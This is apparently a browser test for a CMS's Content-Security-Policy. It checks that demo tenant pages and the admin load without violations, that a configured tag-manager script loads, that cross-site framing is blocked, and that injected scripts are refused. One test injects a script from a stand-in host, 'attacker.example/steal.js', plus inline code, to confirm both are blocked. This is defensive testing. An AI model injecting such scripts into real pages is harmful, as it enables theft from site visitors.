import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { asSystem } from '../content-engine/core/context.ts';
import { updateSiteSettingsGroup } from '../content-engine/settings/operations/update-site-settings-group.ts';
import { findTenantByKey } from '../content-engine/tenants/queries.ts';
import { insertCmsUser } from '../content-engine/testing/fixtures-cms-users.ts';
import { signInToAdmin } from './admin-sign-in.ts';
import { startDemoSession, type DemoSession } from './demo-session.ts';
import { recordOutsideRequests } from './outside-requests.ts';

/*
 * The Content-Security-Policy in Chromium (ADR 0031): the demo tenants' home, section and article
 * pages and the admin run with no violation, their islands hydrate and the consent banner's
 * scripts from the tenant's configured hosts load, while a script from any other host, or an inline
 * script the page did not ship with, is refused. Hosts other than the site never answer from the
 * internet: requests to them are recorded and answered with an empty script.
 */
let session: DemoSession;
let port: string;
const tenantKeys = ['fleetowner', 'plantservices'];

/**
 * A visitor whose page records the policy violations it reports (from before any page script
 * runs) and the console's CSP errors; requests to hosts other than the site are recorded and
 * answered with an empty script.
 */
async function visitor() {
  const { context, page } = await session.newPage();
  await context.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { cspViolations: string[] }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  const outside = await recordOutsideRequests(context);
  const consoleErrors: string[] = [];
  page.on(
    'console',
    (message) =>
      void (
        message.type() === 'error' &&
        /Content Security Policy|frame-ancestors|X-Frame-Options/i.test(message.text()) &&
        consoleErrors.push(message.text())
      ),
  );
  const violations = () => page.evaluate(() => [...(window as unknown as { cspViolations: string[] }).cspViolations]);
  return { context, page, violations, consoleErrors, outside };
}

beforeAll(async () => {
  session = await startDemoSession({ site: true, admin: true, seed: { tenants: 2, itemsPerTenant: 40 } });
  port = new URL(session.base).port;
  // The first tenant's consent banner runs one configured third party; nothing else is configured.
  const ctx = asSystem(session.engine.context({ tenant: await findTenantByKey(session.engine.db, 'fleetowner') }));
  await updateSiteSettingsGroup({ ctx, input: { group: 'oneTrust', value: { scriptId: '' } } });
  await updateSiteSettingsGroup({ ctx, input: { group: 'googleTagManager', value: { containerID: 'GTM-CSP1234' } } });
  await updateSiteSettingsGroup({
    ctx,
    input: {
      group: 'thirdPartyScripts',
      value: {
        hotjar: { enabled: false },
        blueConic: { enabled: false },
        facebookPixel: { enabled: false },
        linkedInInsight: { enabled: false },
        feathrSuperPixel: { enabled: false },
        olytics: { enabled: false },
        adDaptive: { enabled: false },
      },
    },
  });
}, 300_000);

afterAll(() => session?.close());

async function demoPaths(tenantKey: string): Promise<string[]> {
  const db = session.engine.db;
  const section = await db('website_sections')
    .where({ tenant_key: tenantKey, status: 1 })
    .whereNot({ alias: 'home' })
    .whereNull('parent_id')
    .orderBy('id')
    .first('alias');
  const article = await db('content')
    .where({ tenant_key: tenantKey, status: 1, type: 'Article' })
    .where('published', '<', Date.now())
    .orderBy('id')
    .first('canonical_path');
  return ['/', `/${section.alias}`, article.canonical_path];
}

describe('the content security policy in Chromium', () => {
  it("runs the demo tenants' home, section and article pages with no violation, and their islands hydrate", async () => {
    for (const tenantKey of tenantKeys) {
      for (const path of await demoPaths(tenantKey)) {
        const { context, page, violations, consoleErrors } = await visitor();
        const address = `http://${tenantKey}.localhost:${port}${path}`;
        const response = await page.goto(address);
        expect(response?.headers()['content-security-policy'], address).toContain("script-src 'self'");
        // Hydrated islands lose their `ssr` attribute; the header's account menu is on every page.
        await page.locator('astro-island:not([ssr])').first().waitFor({ state: 'attached', timeout: 30_000 });
        await page.waitForLoadState('networkidle');
        expect(await violations(), address).toEqual([]);
        expect(consoleErrors, address).toEqual([]);
        await context.close();
      }
    }
  });

  it("loads the consent banner's script from a configured host, and refuses scripts from other hosts and injected inline scripts", async () => {
    const { context, page, violations, consoleErrors, outside } = await visitor();
    await page.goto(`http://fleetowner.localhost:${port}/`);
    await page.getByRole('region', { name: 'Cookie consent' }).getByRole('button', { name: 'Accept All' }).click();
    await expect
      .poll(() => outside.filter((url) => new URL(url).hostname === 'www.googletagmanager.com').length, {
        timeout: 30_000,
      })
      .toBe(1);
    expect(await violations()).toEqual([]);

    // What an injected script would do: add a script from an unconfigured host, or inline code.
    await page.evaluate(() => {
      const remote = document.createElement('script');
      remote.src = 'https://attacker.example/steal.js';
      document.head.append(remote);
      const inline = document.createElement('script');
      inline.textContent = 'window.injectedRan = true';
      document.head.append(inline);
    });
    await expect
      .poll(violations, { timeout: 30_000 })
      .toEqual(expect.arrayContaining(['script-src-elem https://attacker.example/steal.js', 'script-src-elem inline']));
    expect(outside.some((url) => url.includes('attacker.example'))).toBe(false);
    expect(await page.evaluate(() => (window as unknown as { injectedRan?: boolean }).injectedRan)).toBeUndefined();
    expect(consoleErrors.length).toBeGreaterThan(0);
    await context.close();
  });

  it('does not let another site frame a page', async () => {
    const { context, page, consoleErrors } = await visitor();
    await page.goto(`http://fleetowner.localhost:${port}/`);
    const framed = `http://plantservices.localhost:${port}/`;
    await page.evaluate((src) => {
      const frame = document.createElement('iframe');
      frame.src = src;
      document.body.append(frame);
    }, framed);
    await expect.poll(() => consoleErrors.some((error) => error.includes(framed)), { timeout: 30_000 }).toBe(true);
    const child = page.frames().find((frame) => frame !== page.mainFrame() && frame.url() !== 'about:blank');
    expect(await child?.evaluate(() => document.title).catch(() => '')).not.toMatch(/Plant Services/);
    await context.close();
  });

  it('runs the admin with no violation, signed out and signed in', async () => {
    const administrator = await insertCmsUser(session.engine.db, {
      username: 'csp-admin',
      role: 'administrator',
      isGlobal: true,
    });
    const { context, page, violations, consoleErrors } = await visitor();
    await signInToAdmin(page, administrator, `${session.base}/admin`);
    await page.waitForLoadState('networkidle');
    expect(await violations()).toEqual([]);
    expect(consoleErrors).toEqual([]);
    await context.close();
  });
});
